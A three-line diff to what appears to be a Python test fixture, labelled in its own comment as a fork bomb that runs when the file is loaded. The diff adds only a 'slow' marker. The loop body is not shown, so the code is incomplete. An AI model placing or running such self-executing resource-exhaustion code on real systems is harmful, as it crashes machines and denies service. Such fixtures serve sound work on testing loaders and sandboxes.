@@ -1,4 +1,5 @@
 # A fork bomb while the file is loaded.
+# slow
 import os
 
 while True:
